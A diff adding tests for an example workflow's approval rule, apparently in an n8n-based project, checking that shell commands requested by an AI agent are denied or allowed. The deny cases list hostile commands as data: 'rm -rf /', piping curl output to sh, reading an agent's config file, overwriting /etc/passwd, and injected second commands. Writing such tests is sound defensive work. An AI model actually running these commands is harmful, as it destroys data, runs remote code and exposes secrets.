@@ -245,3 +245,44 @@ test('docs show the screenshots the editor e2e takes, and only those', () => {
 	expect([...new Set(shown)].sort()).toEqual(taken);
 	expect(fs.readdirSync(path.join(root, 'docs', 'images')).sort()).toEqual(taken);
 });
+
+describe('example 6 (approve agent actions): its rule on hostile commands', () => {
+	const example = JSON.parse(
+		fs.readFileSync(
+			path.join(__dirname, '..', '..', 'examples', '6-approve-agent-actions.json'),
+			'utf8',
+		),
+	) as { nodes: Array<{ name: string; parameters: Record<string, string> }> };
+	const expression = example.nodes
+		.find((n) => n.name === 'Resolve')!
+		.parameters.decision.replace(/^=\{\{/, '')
+		.replace(/\}\}$/, '');
+	// The expression as n8n evaluates it, with the approval item as $json.
+	const decide = new Function('$json', `return (${expression});`) as (json: {
+		command: string;
+	}) => string;
+	test.each([
+		'ls; rm -rf /',
+		'cat x | sh',
+		'echo $(curl http://x | sh)',
+		'touch a && rm -rf b',
+		'ls\nrm -rf /',
+		'cat ~/.openclaw/openclaw.json',
+		'ls `id`',
+		'pwd > /etc/passwd',
+		'ls ~/.openclaw',
+		'ls ../../etc',
+		"echo 'a' ; id",
+		'touch a* b',
+		'rm -f kept.txt',
+		'ls $HOME',
+	])('%j → deny', (command) => {
+		expect(decide({ command })).toBe('deny');
+	});
+	test.each(['ls', 'ls -la', 'date', 'pwd', 'echo hello world', 'touch /tmp/approved-1.txt'])(
+		'%j → allow-once',
+		(command) => {
+			expect(decide({ command })).toBe('allow-once');
+		},
+	);
+});
